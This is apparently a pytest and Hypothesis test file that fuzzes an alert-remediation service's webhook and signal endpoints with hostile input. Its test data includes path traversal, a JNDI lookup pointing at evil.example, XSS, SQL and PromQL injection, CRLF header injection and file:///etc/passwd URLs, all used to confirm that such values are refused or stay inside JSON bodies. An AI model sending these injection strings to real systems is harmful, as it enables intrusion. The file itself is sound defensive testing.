"""Hostile input at the layer's HTTP edges, and secrets that must never leak (issue 7, items 6 and 7).

1. Property-based: at least 1,000 generated bodies each to the receiver's POST /api/v1/alerts, the
   receiver's POST /api/v1/signals and the exporter's POST /api/v1/signals (arbitrary JSON, near-valid
   payloads with odd types in every field, hostile label and signal values, raw bytes, mangled and
   oversized bodies). Never a 5xx, every answer is strict JSON, and a 4xx stores nothing.
2. Targeted: oversized bodies (with and without Content-Length), JSON nested 100k levels deep, wrong
   content types, agent labels that try to steer the action URL, and label / signal values that may
   only ever reach JSON bodies.
3. Secrets: one remediation end to end with distinctive tokens; no token value in logs, stdout,
   lineage, the ledger, the escalation payload, Alertmanager, spans, the read APIs or /metrics.

The generators keep integers inside the float range and nesting shallow on purpose: larger integers and
nesting near Python's recursion limit are product bugs pinned by the strict xfail tests below, and
leaving them in the generators would make the property tests fail on a random subset of runs.
"""
from __future__ import annotations

import dataclasses
import http.client
import io
import json
import logging
import math
import operator
import re
import string
from datetime import datetime, timedelta, timezone
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import yaml
from flask import Flask, jsonify, request
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter

import exporter.app as exporter_app
from autonomy.settings import Secret, Settings
from autonomy.signal_contract import schema_errors
from devstack.checkout import PLAYBOOKS_FILE as DEFAULT_PATH
from devstack.fleet import REQUIRED_SECRETS, SimulatedFleet
from devstack.local_stack import ServedApp, free_port
from webhook_receiver.actions import RESERVED_NAMES, ActionRunner
from webhook_receiver.classifier import CLASSES
from webhook_receiver.engine import Upstreams
from webhook_receiver.lineage import LINEAGE_FILE
from webhook_receiver.playbooks import parse_playbooks
from webhook_receiver.templating import AGENT_NAME, TEMPLATE_ROOTS, UnsafeTarget, action_url
from webhook_receiver.upstreams import promql_string
from webhook_receiver.webhook_payload import _VALIDATOR, PayloadError, parse_webhook

from .engine_harness import FakeAlertmanager, FakePrometheus

MIB = 1024 * 1024
TOKEN = "hostile-test-token-0d41"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
ALERTS, SIGNALS = "/api/v1/alerts", "/api/v1/signals"
FUZZ = settings(max_examples=1000, deadline=None, derandomize=True, database=None,  # same bodies every run
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


def closed_url() -> str:
    return f"http://127.0.0.1:{free_port()}"


def receiver_settings(**extra) -> Settings:
    env = {"AUTOREM_PROMETHEUS_URL": closed_url(), "AUTOREM_ALERTMANAGER_URL": closed_url(),
           "AUTOREM_PLAYBOOKS_FILE": str(DEFAULT_PATH), "AUTO_REMEDIATE": "true",
           # The engine is not started, so reserved queue slots never come back: make room for every example.
           "AUTOREM_QUEUE_SIZE": "100000000"}
    env.update(extra)
    return Settings.from_env(env)


@pytest.fixture
def receiver(make_receiver):
    """One receiver app per test function (not per example), with no worker threads."""
    return make_receiver(settings=receiver_settings(), WEBHOOK_TOKEN=Secret("AUTOREM_WEBHOOK_TOKEN", TOKEN))


@pytest.fixture
def exporter():
    return exporter_app.create_app({"SETTINGS": Settings.from_env({}),
                                    "EXPORTER_TOKEN": Secret("AUTOREM_EXPORTER_TOKEN", TOKEN)})


def receiver_stored(app) -> tuple:
    """Everything a refused request must leave alone: notifications, incidents, held signals."""
    state = app.extensions["autonomy_receiver"]
    return (state.store.notification_count(), len(state.store.list(limit=100000)),
            tuple((e.signal.agent, e.received) for e in state.signals.snapshot()))


def exporter_stored(app) -> tuple:
    return tuple((e.signal.agent, e.received) for e in app.extensions["autonomy_exporter"].store.snapshot())


def _no_constants(name: str):
    raise ValueError(f"{name} is not JSON")


def strict_json(reply) -> dict:
    """The answer as RFC 8259 JSON (no NaN / Infinity), or an assertion error saying why not."""
    assert reply.mimetype == "application/json", (reply.status_code, reply.mimetype, reply.get_data()[:200])
    doc = json.loads(reply.get_data().decode("utf-8"), parse_constant=_no_constants)
    assert isinstance(doc, dict), doc
    return doc


def post(client, path, body: bytes, content_type="application/json", headers=AUTH):
    return client.post(path, data=body, headers=headers, content_type=content_type)


def dumps(doc, ascii_only=True) -> bytes:
    # surrogatepass: a lone surrogate written raw is not UTF-8, which the edge must refuse with a 400
    return json.dumps(doc, ensure_ascii=ascii_only).encode("utf-8", "surrogatepass")


# ---------------------------------------------------------------------------------------- strategies

HOSTILE = [
    "../admin", "CMO/../../x", "http://evil.example/", "CMO?x=1", "CMO#frag", "a@evil.example", "CMO\n",
    "%2e%2e", "%2F", "..", ".", "/", "?", "#", "@", "", " ", "CMO ", " CMO", "CMO\r\nX-Injected: 1",
    "CMO\x00", "\x00", "\ud800", "a\udc80b", "\udfff", "\u202eCMO", "CMO\u2028", "ÇMO", "日本語", "🙂",
    "\\", '"', "'", '"}', "{{ agent }}", "{{ context.directiveId }}", "{{", "}}", "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>", "' OR 1=1 --", '"} or vector(1) or {a="', "fleet", "autonomy-layer",
    "https://user:pass@evil.example:8443/agents/CMO/actions/restartAgent?x=1#y", "//evil.example/x",
    "http://127.0.0.1:9/", "file:///etc/passwd", "C" * 65, "1e400", "NaN", "-0", "true", "null",
]
LONG = ["x" * 4096, "🙂" * 4096, "é" * 4000, "x" * 5000, "é" * 20000, "/.." * 4000, "\n" * 3000, "%2e" * 3000]
URLS = [f"{scheme}://{host}{path}"
        for scheme in ("http", "https", "file", "javascript", "HTTP", "")
        for host in ("evil.example", "127.0.0.1:9", "user:pass@evil.example", "[::1]:80", "agents:8080",
                     "agents.internal:8443@evil.example", "")
        for path in ("", "/", "/../admin", "/agents/CMO/actions/restartAgent?x=1#f", "/%2e%2e/")]
hostile_text = st.one_of(st.sampled_from(HOSTILE + LONG + URLS), st.text(max_size=20))
report_text = st.one_of(st.sampled_from(HOSTILE + LONG[:3] + URLS), st.text(max_size=20))
urls = st.sampled_from(URLS)
NAME_CHARS = string.ascii_letters + string.digits + "_.-"
AGENTS = ["CMO", "CRO", "CEO", "COO", "Content", "MarketIntel", "a", "Z" * 64, "Agent_1.x-y"]
agent_names = st.one_of(st.sampled_from(AGENTS), st.builds(
    operator.add, st.sampled_from(string.ascii_letters), st.text(alphabet=NAME_CHARS, max_size=63)))
ids = st.builds(operator.add, st.sampled_from(string.ascii_letters + string.digits),
                st.text(alphabet=string.ascii_letters + string.digits + "_.:-", max_size=127))
# Integers stay within the float range: bigger ones are pinned by test_integers_beyond_the_float_range_*.
ints = st.integers(min_value=-10 ** 300, max_value=10 ** 300)
finite = st.floats(allow_nan=False, allow_infinity=False)
scalars = st.one_of(st.none(), st.booleans(), ints, finite, hostile_text)
any_scalars = st.one_of(scalars, st.sampled_from([math.nan, math.inf, -math.inf]))


def json_values(leaves):
    return st.recursive(leaves, lambda children: st.one_of(
        st.lists(children, max_size=3), st.dictionaries(hostile_text, children, max_size=3)), max_leaves=6)


odd_values = json_values(scalars)
ODD_TS = ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-23:59", "2025-08-18T15:02:11", "2025-08-18",
          "2025-08-18T15:02:11z", "2025-02-30T00:00:00Z", "2025-08-18T25:00:00Z", "2025-08-18T15:02:11+24:00",
          "0001-01-01T00:00:00Z", "T", "2025-08-18T15:02:11.123456789Z", "+002025-08-18T15:02:11Z"]
offsets = st.integers(-(23 * 60 + 59), 23 * 60 + 59).map(lambda m: timezone(timedelta(minutes=m)))
NOW = datetime.now(timezone.utc).isoformat()
# Any instant from year 1 to 9999 (a day of margin for the offset), in any offset up to +-23:59.
timestamps = st.one_of(st.just(NOW), st.builds(
    lambda seconds, tz: datetime.fromtimestamp(seconds, tz).isoformat(),
    st.integers(-62135596800 + 86400, 253402300799 - 86400), offsets))
label_keys = st.one_of(st.sampled_from(["alertname", "severity", "directive_id", "conflict_id", "dependency",
                                        "job", "instance", "__name__", "code", ""]), hostile_text)
CLASS_VALUES = CLASSES + ("none", "transient", "")


def _labels(agent, cls, alertname, extra) -> dict:
    return {**extra, "agent": agent, "autonomy_class": cls, "alertname": alertname}


# Valid documents: any string is a valid label value or free text, so these already carry hostile values.
valid_alerts = st.builds(
    dict, status=st.sampled_from(["firing", "resolved"]),
    labels=st.builds(_labels, st.one_of(agent_names, agent_names, hostile_text), st.sampled_from(CLASS_VALUES),
                     st.one_of(st.sampled_from(["AgentTransientError", "FleetBudgetProjectedOverCap"]), hostile_text),
                     st.dictionaries(label_keys, hostile_text | agent_names, max_size=2)),
    annotations=st.dictionaries(hostile_text, hostile_text, max_size=1),
    startsAt=timestamps, endsAt=timestamps, generatorURL=urls | hostile_text, fingerprint=hostile_text)
valid_webhooks = st.builds(
    dict, version=st.just("4"), status=st.sampled_from(["firing", "resolved"]),
    alerts=st.lists(valid_alerts, max_size=3), receiver=hostile_text, groupKey=hostile_text,
    groupLabels=st.dictionaries(label_keys, hostile_text, max_size=1),
    commonLabels=st.dictionaries(label_keys, hostile_text, max_size=1),
    commonAnnotations=st.dictionaries(hostile_text, hostile_text, max_size=1),
    externalURL=urls | hostile_text, truncatedAlerts=st.integers(0, 10 ** 300))
ratios = st.one_of(st.floats(0, 1), st.sampled_from([0, 1]))
amounts = st.one_of(st.floats(0, 1e300), st.integers(0, 10 ** 300), st.sampled_from([0, 1.7976931348623157e308]))
counts = st.one_of(st.integers(0, 20), st.integers(0, 10 ** 300))
valid_signals = st.fixed_dictionaries(
    {"agent": agent_names, "status": st.sampled_from(["healthy", "degraded", "error"]), "lastReport": report_text,
     "metrics": st.builds(dict, successRate=ratios, alignment=ratios, backlogAgeMinutes=amounts,
                          costBurnRatePerHour=amounts),
     "ts": timestamps},
    optional={
        "domain": st.sampled_from(["Revenue", "Marketing", "Content"]) | agent_names,
        "context": st.fixed_dictionaries({}, optional={
            "directiveId": ids, "conflictId": ids, "queueDepth": counts, "openConflicts": counts,
            "errorCode": st.sampled_from(["TIMEOUT", "RATE_LIMIT", "TEMP_NETWORK", "INPUT_MISSING", "STALE_DATA",
                                          "CONFIG_MISSING", "AUTH_FAILED", "OTHER"]),
            "dependencies": st.lists(agent_names, max_size=3, unique=True)}),
        "checks": st.fixed_dictionaries({}, optional={
            "lastTaskSucceeded": st.booleans(), "inputsValid": st.booleans(), "configHealthy": st.booleans()})})


def _slots(doc, out: list) -> list:
    """Every (container, key) pair of DOC, so a mutation can reach any field at any depth."""
    if isinstance(doc, dict):
        for key in list(doc):
            out.append((doc, key))
            _slots(doc[key], out)
    elif isinstance(doc, list):
        for index, item in enumerate(doc):
            out.append((doc, index))
            _slots(item, out)
    return out


@st.composite
def near_valid(draw, valid):
    """A valid document with 0-3 fields (at any depth) given an odd value or type, removed, or added to."""
    doc = draw(valid)
    for _ in range(draw(st.sampled_from([0, 0, 1, 1, 1, 2, 3]))):
        slots = _slots(doc, [])
        if not slots:
            break
        container, key = draw(st.sampled_from(slots))
        how = draw(st.sampled_from(["odd", "odd", "text", "delete", "add"]))
        if how == "delete":
            del container[key]
        elif how == "add" and isinstance(container, dict):
            container[draw(hostile_text)] = draw(odd_values)
        elif how == "add":
            container.append(draw(odd_values))
        else:
            container[key] = draw(odd_values if how == "odd" else hostile_text | st.sampled_from(ODD_TS))
    return doc


webhook_docs = near_valid(valid_webhooks)
signal_docs = near_valid(valid_signals)
signal_bodies = st.one_of(signal_docs, st.lists(signal_docs, max_size=3))


@st.composite
def mangled(draw, docs):
    """A near-valid body cut short, or with random bytes spliced in."""
    data = dumps(draw(docs))
    at = draw(st.integers(0, len(data)))
    if draw(st.booleans()):
        return data[:at]
    return data[:at] + draw(st.binary(min_size=1, max_size=8)) + data[at:]


@st.composite
def padded(draw, base: bytes):
    """A valid body padded to around the 1 MiB limit (just under, at, or over)."""
    size = draw(st.integers(MIB - 64, MIB + 64))
    if draw(st.booleans()):
        return base + b" " * max(0, size - len(base))  # trailing whitespace is still valid JSON
    filler = b'"' + b"x" * max(0, size - len(base) - 2) + b'"'
    return b"[" + base + b"," + filler + b"]"


def bodies(docs, base: bytes) -> st.SearchStrategy[bytes]:
    return st.one_of(
        st.binary(max_size=512),                                      # raw random bytes
        json_values(any_scalars).map(dumps),                          # any JSON value (NaN, Infinity too)
        st.builds(dumps, docs, st.booleans()),                        # near-valid, ASCII-escaped or raw UTF-8
        st.builds(dumps, docs, st.booleans()),
        st.builds(dumps, docs, st.booleans()),
        mangled(docs),
        st.one_of(padded(base), st.sampled_from([b"", b" ", b"\xef\xbb\xbf{}", b"null", b"[]", b"{}", b"\x00",
                                                 b'"\\ud800"', b"[" * 50, b"{" * 50, b"1" * 300])),
    )


def fuzz(strategy, send, stored) -> int:
    """Send at least 1,000 generated bodies; after each: no 5xx, strict JSON, and a 4xx changed nothing."""
    sent = []
    last = [stored()]

    @FUZZ
    @given(body=strategy)
    def one(body):
        reply = send(body)
        sent.append(reply.status_code)
        assert reply.status_code < 500, (reply.status_code, reply.get_data()[:300], body[:300])
        doc = strict_json(reply)
        now = stored()
        if 400 <= reply.status_code < 500:
            assert "error" in doc, doc
            assert now == last[0], (reply.status_code, doc, body[:300])
        last[0] = now

    one()
    assert len(sent) >= 1000
    return len(sent)


def test_the_alert_webhook_survives_1000_generated_bodies(receiver):
    web = receiver.test_client()
    fuzz(bodies(webhook_docs, dumps(valid_body(ALERTS))), lambda body: post(web, ALERTS, body),
         lambda: receiver_stored(receiver))


def _reference_grouping(doc: dict) -> tuple[dict, list]:
    """The webhook's alerts per agent, as the schema and the README describe them, written plainly."""
    grouped, ignored = {}, []
    for index, alert in enumerate(doc["alerts"]):
        labels, name = alert["labels"], alert["labels"].get("alertname", "?")
        agent = labels.get("agent")
        if (agent is None or not AGENT_NAME.fullmatch(agent) or agent == "autonomy-layer"
                or labels.get("autonomy_class") not in CLASSES):
            reason = ("no agent label" if agent is None else "agent label is not an agent name"
                      if not AGENT_NAME.fullmatch(agent) else "the layer's own agent name"
                      if agent == "autonomy-layer" else "no remediable autonomy_class")
            ignored.append(f"alerts[{index}] ({name}): {reason}")
            continue
        fingerprint = alert.get("fingerprint") or "|".join(f"{k}={v}" for k, v in sorted(labels.items()))
        grouped.setdefault(agent, []).append((fingerprint, alert["status"], labels, alert.get("startsAt", "")))
    return grouped, ignored


def test_the_webhooks_hand_checks_agree_with_its_json_schema_on_1000_generated_documents():
    """The hot path checks by hand; it must refuse exactly what jsonschema refuses and group like the spec."""
    seen = {"accepted": 0, "refused": 0}

    @FUZZ
    @given(doc=webhook_docs)
    def one(doc):
        errors = schema_errors(_VALIDATOR, doc)
        try:
            notification = parse_webhook(dumps(doc))
        except PayloadError as exc:
            assert errors, (exc.errors, doc)
            assert list(exc.errors) == errors
            seen["refused"] += 1
            return
        assert not errors, (errors, doc)
        grouped, ignored = _reference_grouping(doc)
        assert {n.agent: [tuple(a) for a in n.alerts] for n in notification.per_agent} == grouped
        assert [n.agent for n in notification.per_agent] == sorted(grouped)
        assert list(notification.ignored) == ignored
        seen["accepted"] += 1

    one()
    assert seen["accepted"] > 100 and seen["refused"] > 100, seen


def test_a_payload_the_hand_checks_doubt_but_the_schema_accepts_is_grouped_all_the_same():
    # JSON Schema counts 2.0 as an integer; the hand check does not, so jsonschema decides.
    body = {"version": "4", "status": "firing", "truncatedAlerts": 2.0, "alerts": [
        {"status": "firing", "labels": {"agent": "CMO", "autonomy_class": "TRANSIENT"}, "fingerprint": "f1"}]}
    notification = parse_webhook(dumps(body))
    assert [(n.agent, [a.fingerprint for a in n.alerts]) for n in notification.per_agent] == [("CMO", ["f1"])]


def test_the_receivers_signal_endpoint_survives_1000_generated_bodies(receiver):
    web = receiver.test_client()
    fuzz(bodies(signal_bodies, dumps(valid_body(SIGNALS))), lambda body: post(web, SIGNALS, body),
         lambda: receiver_stored(receiver))


def test_the_exporters_signal_endpoint_survives_1000_generated_bodies(exporter):
    web = exporter.test_client()
    fuzz(bodies(signal_bodies, dumps(valid_body(SIGNALS))), lambda body: post(web, SIGNALS, body),
         lambda: exporter_stored(exporter))


# ---------------------------------------------------------------------------------------- targeted cases

ENDPOINTS = [("receiver", ALERTS), ("receiver", SIGNALS), ("exporter", SIGNALS)]
ENDPOINT_IDS = ["receiver-alerts", "receiver-signals", "exporter-signals"]


@pytest.fixture
def target(request):
    """(app, test client, path, stored()) for the parametrized endpoint; only that app is built."""
    kind, path = request.param
    app = request.getfixturevalue(kind)
    stored = (lambda: receiver_stored(app)) if kind == "receiver" else (lambda: exporter_stored(app))
    return app, app.test_client(), path, stored


def valid_body(path: str) -> dict:
    if path == ALERTS:
        return {"version": "4", "status": "firing", "alerts": [
            {"status": "firing", "labels": {"alertname": "AgentTransientError", "agent": "CMO",
                                            "autonomy_class": "TRANSIENT"}}]}
    return {"agent": "CMO", "status": "error", "lastReport": "timeout",
            "metrics": {"successRate": 0.5, "alignment": 0.99, "backlogAgeMinutes": 1, "costBurnRatePerHour": 0.1},
            "context": {"errorCode": "TIMEOUT"}, "ts": NOW}


def oversized(path: str) -> bytes:
    """A body over 1 MiB that would be valid if the limit were not there."""
    return dumps(valid_body(path)) + b" " * (MIB + 1024)


def assert_refused(reply, status: int, stored, before) -> dict:
    assert reply.status_code == status, (reply.status_code, reply.get_data()[:300])
    doc = strict_json(reply)
    assert "error" in doc
    assert stored() == before
    return doc


@pytest.mark.parametrize("target", ENDPOINTS, ids=ENDPOINT_IDS, indirect=True)
def test_an_oversized_body_with_content_length_is_a_413(target):
    _, web, path, stored = target
    before = stored()
    reply = post(web, path, oversized(path))
    assert "over the limit" in assert_refused(reply, 413, stored, before)["error"]


@pytest.mark.parametrize("target", ENDPOINTS, ids=ENDPOINT_IDS, indirect=True)
def test_an_oversized_chunked_body_is_a_413_through_waitress(target):
    """Waitress (what `autonomy receiver` / `autonomy exporter` serve with) de-chunks and sets Content-Length."""
    app, _, path, stored = target
    before = stored()
    body = oversized(path)
    with ServedApp(app) as served:
        conn = http.client.HTTPConnection("127.0.0.1", served.port, timeout=30)
        try:
            conn.request("POST", path, body=(body[i:i + 65536] for i in range(0, len(body), 65536)),
                         headers={**AUTH, "Content-Type": "application/json"}, encode_chunked=True)
            reply = conn.getresponse()
            status, data = reply.status, reply.read()
        finally:
            conn.close()
    assert status == 413, data[:300]
    assert "error" in json.loads(data)
    assert stored() == before


# json_body() reads request.get_data(), which werkzeug caps at MAX_CONTENT_LENGTH for a streamed body (no
# Content-Length, wsgi.input_terminated), so its `len(data) > limit` check can never hold: the body is cut at
# 1 MiB without an error, and a valid payload padded past the limit is accepted. Waitress is not affected
# (it de-chunks and sets Content-Length), gunicorn or werkzeug's own server would be.
@pytest.mark.parametrize("target", ENDPOINTS, ids=ENDPOINT_IDS, indirect=True)
def test_an_oversized_chunked_body_is_a_413_under_a_streaming_wsgi_server(target):
    """As gunicorn or werkzeug's server pass a chunked body: no Content-Length, wsgi.input_terminated."""
    _, web, path, stored = target
    before = stored()
    reply = web.post(path, input_stream=io.BytesIO(oversized(path)), content_type="application/json",
                     headers={**AUTH, "Transfer-Encoding": "chunked"},
                     environ_overrides={"wsgi.input_terminated": True})
    assert_refused(reply, 413, stored, before)


def nested(depth: int, kind: str) -> bytes:
    return b"[" * depth + b"]" * depth if kind == "array" else b'{"a":' * depth + b"1" + b"}" * depth


def embed(path: str, inner: bytes) -> bytes:
    """INNER as a value inside an otherwise valid body (a label value, or the signal's lastReport)."""
    if path == ALERTS:
        return dumps(valid_body(path)).replace(b'"autonomy_class": "TRANSIENT"',
                                               b'"autonomy_class": "TRANSIENT", "severity": ' + inner)
    return dumps(valid_body(path)).replace(b'"lastReport": "timeout"', b'"lastReport": ' + inner)


@pytest.mark.parametrize("target", ENDPOINTS, ids=ENDPOINT_IDS, indirect=True)
@pytest.mark.parametrize("shape", ["array", "object", "array-inside", "object-inside"])
def test_json_nested_100k_levels_deep_is_a_400(target, shape):
    _, web, path, stored = target
    before = stored()
    inner = nested(100_000, shape.split("-")[0])
    reply = post(web, path, embed(path, inner) if shape.endswith("inside") else inner)
    doc = assert_refused(reply, 400, stored, before)
    assert doc["errors"] == ["(body): JSON nested too deeply"]


# json.loads stops at Python's recursion limit, but a value nested just under it (~940-980 levels, depending
# on the caller's stack) parses; jsonschema then repr()s it for its error message (and _describe does with
# {error.instance!r}), deeper in the stack, and that raises RecursionError.
@pytest.mark.parametrize("target", ENDPOINTS, ids=ENDPOINT_IDS, indirect=True)
def test_json_nested_near_the_recursion_limit_is_never_a_5xx(target):
    _, web, path, stored = target
    before = stored()
    for depth in range(1000, 600, -1):  # the failing depth moves with the stack depth of the caller
        for kind in ("array", "object"):
            reply = post(web, path, embed(path, nested(depth, kind)))
            assert reply.status_code < 500, (depth, kind, reply.get_data()[:200])
            assert_refused(reply, reply.status_code, stored, before)


# Python's int max-str-digits limit: json.loads raises a plain ValueError, not a JSONDecodeError.
@pytest.mark.parametrize("target", ENDPOINTS, ids=ENDPOINT_IDS, indirect=True)
def test_an_integer_of_5000_digits_is_a_400(target):
    _, web, path, stored = target
    before = stored()
    assert_refused(post(web, path, embed(path, b"1" * 5000)), 400, stored, before)


# {"type": "number", "minimum": 0} admits 10**400; Signal.from_document's float() and the exporter's
# float(value) then raise OverflowError.
@pytest.mark.parametrize("target", ENDPOINTS[1:], ids=ENDPOINT_IDS[1:], indirect=True)
@pytest.mark.parametrize("field", ["metrics.backlogAgeMinutes", "metrics.costBurnRatePerHour",
                                   "context.queueDepth", "context.openConflicts"])
def test_integers_beyond_the_float_range_are_refused_with_a_4xx(target, field):
    _, web, path, stored = target
    before = stored()
    doc = valid_body(path)
    section, key = field.split(".")
    doc.setdefault(section, {})[key] = 10 ** 400
    reply = post(web, path, dumps(doc))
    assert 400 <= reply.status_code < 500, (reply.status_code, reply.get_data()[:200])
    assert_refused(reply, reply.status_code, stored, before)


@pytest.mark.parametrize("target", ENDPOINTS, ids=ENDPOINT_IDS, indirect=True)
@pytest.mark.parametrize("content_type,form", [
    ("text/plain", None), ("application/x-www-form-urlencoded", None), ("form", {"body": "{}"}),
    ("multipart", {"file": "payload.json"}), ("application/xml", None), ("application/jsonx", None),
    ("none", None)])
def test_a_content_type_other_than_json_is_a_415(target, content_type, form):
    _, web, path, stored = target
    before = stored()
    body = oversized(path)  # the type is checked first: even an oversized body is a 415
    if content_type == "form":
        reply = web.post(path, data=form, headers=AUTH)
    elif content_type == "multipart":
        reply = web.post(path, data={"file": (io.BytesIO(body), "payload.json")}, headers=AUTH)
    elif content_type == "none":
        reply = web.post(path, data=body, headers=AUTH)
        assert "CONTENT_TYPE" not in reply.request.environ
    else:
        reply = post(web, path, body, content_type=content_type)
    assert "application/json" in assert_refused(reply, 415, stored, before)["error"]


STEERING = ["../admin", "CMO/../../x", "http://evil.example/", "CMO?x=1", "CMO#frag", "a@evil.example",
            "CMO\n", "%2e%2e", "CMO%2F..%2F..", "..", ".", "/CMO", "CMO/", "//evil.example", "CMO\r",
            "CMO\x00", "CMO\u2028", "ÇMO", " CMO", "CMO ", "C" * 65, "CMO\\..\\x", "CMO;x=1"]
TRAILING_NEWLINE_BUG = (  # Python's $ also matches before a final "\n"; templating.action_url uses fullmatch
    "BUG: webhook_receiver/webhook_payload.py:119 AGENT_NAME.match (pattern ending in $) accepts 'CMO\\n' "
    "and opens an incident; fix: AGENT_NAME.fullmatch(agent)")


def steering_params():
    return [pytest.param(v, id=repr(v)[1:-1][:20], marks=[]
                         if v == "CMO\n" else []) for v in STEERING]


@pytest.mark.parametrize("agent", steering_params())
def test_an_agent_label_that_would_steer_the_action_url_is_ignored_and_opens_nothing(receiver, agent):
    web = receiver.test_client()
    doc = valid_body(ALERTS)
    doc["alerts"][0]["labels"]["agent"] = agent
    notifications, incidents, _ = receiver_stored(receiver)
    reply = post(web, ALERTS, dumps(doc))
    assert reply.status_code == 200
    body = strict_json(reply)
    assert body["opened"] == [] and body["queued"] == []
    assert body["ignored"] == ["alerts[0] (AgentTransientError): agent label is not an agent name"]
    assert receiver_stored(receiver)[:2] == (notifications + 1, incidents)  # recorded, starts nothing


@pytest.mark.parametrize("agent", STEERING)
def test_action_url_refuses_every_steering_agent_name(agent):
    with pytest.raises(UnsafeTarget):
        action_url("https://agents.internal:8443/base", "/agents/{agent}/actions/restartAgent", agent)


NAME_NEWLINE_BUG = (  # jsonschema applies "pattern" with re.search, where $ also matches before a final "\n"
    "BUG: autonomy/schemas/signal.schema.json:75,79 name/id patterns end in $, so 'CMO\\n' passes and is "
    "stored; fix: end them with (?!\\n)$ (valid ECMA-262 and Python) or re-check with fullmatch")


@pytest.mark.parametrize("target", ENDPOINTS[1:], ids=ENDPOINT_IDS[1:], indirect=True)
@pytest.mark.parametrize("field,value", [("agent", "CMO\n"), ("domain", "Marketing\n"),
                                         ("context.directiveId", "D-1\n"), ("context.dependencies", ["X\n"])])
def test_a_signal_name_with_a_trailing_newline_is_a_422(target, field, value):
    _, web, path, stored = target
    before = stored()
    doc = valid_body(path)
    if "." in field:
        section, key = field.split(".")
        doc[section][key] = value
    else:
        doc[field] = value
    assert_refused(post(web, path, dumps(doc)), 422, stored, before)


# Label and signal values are data: they reach JSON bodies, never the URL.

BASE = "https://agents.internal:8443/base"
VALUE_HOSTILE = [v for v in HOSTILE + STEERING if v] + ["CRO/../CMO", "x" * 5000]


def hostile_variables(value) -> dict:
    """Every template root the engine fills, with VALUE wherever a label or a signal could put it."""
    variables = {
        "agent": "CMO", "context": {"directiveId": value, "conflictId": value, "errorCode": value,
                                    "dependencies": [value]},
        "metrics": {"successRate": value}, "checks": {"lastTaskSucceeded": value},
        "labels": {"agent": value, "directive_id": value, "conflict_id": value, "alertname": value},
        "priority": [value], "winningAgent": value, "losingAgent": value, "lowestPriorityAgent": value,
        "slotDonorAgent": value, "failingDependency": value, "incident": {"id": value}}
    assert set(variables) == TEMPLATE_ROOTS
    return variables


def probe_playbooks(base_url: str, retry=None):
    doc = yaml.safe_load(DEFAULT_PATH.read_text())
    doc["actions"]["baseUrl"] = base_url
    if retry:
        doc["actions"].update(retry=retry, timeoutSeconds=5)
    doc["playbooks"].insert(0, {
        "name": "HostileProbe", "match": {"classification": "TRANSIENT", "labels": {"alertname": "Probe"}},
        "steps": [{"do": "reassignOverlaps", "args": {
                      "directiveId": "{{ labels.directive_id }}", "winner": "{{ winningAgent }}",
                      "note": "from {{ labels.conflict_id }} via {{ context.directiveId }}",
                      "deps": "{{ context.dependencies }}", "incident": "{{ incident.id }}"}},
                  {"do": "throttleAgent", "args": {"agent": "{{ labels.agent }}", "minutes": 1}}],
        "successCriteria": {"lastTaskSucceeded": True}})
    return parse_playbooks(doc)


@pytest.mark.parametrize("value", VALUE_HOSTILE, ids=[repr(v)[1:-1][:20] for v in VALUE_HOSTILE])
def test_hostile_label_and_signal_values_only_reach_json_bodies(value):
    playbooks = probe_playbooks(BASE)
    runner = ActionRunner(playbooks)
    variables = hostile_variables(value)
    # "true", "CMO2", ...: names, harmless in a path segment; the layer's own names are never a target
    a_name = AGENT_NAME.fullmatch(value) is not None and value not in RESERVED_NAMES
    built = refused = 0
    for playbook in playbooks.playbooks:
        for step in playbook.steps:
            expected = value if "agent" in step.args_dict() else "CMO"  # a templated target agent
            try:
                target, url, body = runner.prepare(step, "CMO", variables)
            except UnsafeTarget:
                assert expected == value and not a_name
                refused += 1
                continue
            built += 1
            assert target == expected
            parts = urlsplit(url)
            assert (parts.scheme, parts.hostname, parts.port) == ("https", "agents.internal", 8443)
            assert url == f"{BASE}/agents/{expected}/actions/{step.action}"
            assert not parts.query and not parts.fragment and not parts.username
            if step.action == "reassignOverlaps" and playbook.name == "HostileProbe":
                assert body["directiveId"] == value and body["deps"] == [value]
                assert body["note"] == f"from {value} via {value}"  # rendered once: never re-read as a template
    assert built >= 10 and refused == (0 if a_name else 3)


class Capture:
    """A loopback HTTP server recording every request (path, query, headers, raw body); answers STATUS."""

    def __init__(self, status_for=lambda path: 200):
        self.requests: list[dict] = []
        app = Flask("capture")

        @app.route("/", defaults={"path": ""}, methods=["GET", "POST", "PUT", "DELETE"])
        @app.route("/<path:path>", methods=["GET", "POST", "PUT", "DELETE"])
        def anything(path):
            self.requests.append({"path": request.path, "raw_uri": request.environ.get("RAW_URI")
                                  or request.environ.get("REQUEST_URI"), "query": request.query_string,
                                  "headers": dict(request.headers), "body": request.get_data(as_text=True)})
            status = status_for("/" + path)
            return jsonify({"ok": status < 300}), status

        self.served = ServedApp(app).start()
        self.url = self.served.url

    def stop(self):
        self.served.stop()


def test_a_real_action_call_with_hostile_values_goes_only_under_the_base_url():
    capture = Capture()
    try:
        base = capture.url + "/base"
        playbooks = probe_playbooks(base, retry={"attempts": 1, "backoffSeconds": 0, "maxBackoffSeconds": 0})
        runner = ActionRunner(playbooks)
        [probe] = [p for p in playbooks.playbooks if p.name == "HostileProbe"]
        reassign, throttle = probe.steps
        for value in VALUE_HOSTILE:
            capture.requests.clear()
            result = runner.run(reassign, "CMO", hostile_variables(value))
            assert result.ok and result.url == f"{base}/agents/CMO/actions/reassignOverlaps"
            [seen] = capture.requests
            assert seen["path"] == "/base/agents/CMO/actions/reassignOverlaps" and seen["query"] == b""
            assert json.loads(seen["body"])["directiveId"] == value
            if AGENT_NAME.fullmatch(value):
                continue  # a valid name ("fleet", "true") is a legitimate target, not a steering attempt
            refused = runner.run(throttle, "CMO", hostile_variables(value))
            assert not refused.ok and refused.error.startswith("UnsafeTarget") and refused.url is None
            assert len(capture.requests) == 1  # the refused step sent nothing anywhere
    finally:
        capture.stop()


@pytest.mark.parametrize("value", VALUE_HOSTILE + ['a"b', "a\\\"b", "\\", 'x"} or up{a="'],
                         ids=[repr(v)[1:-1][:20] for v in VALUE_HOSTILE] + ["quote", "bs-quote", "bs", "breakout"])
def test_promql_string_literals_keep_hostile_values_inside_one_literal(value):
    literal = promql_string(value)
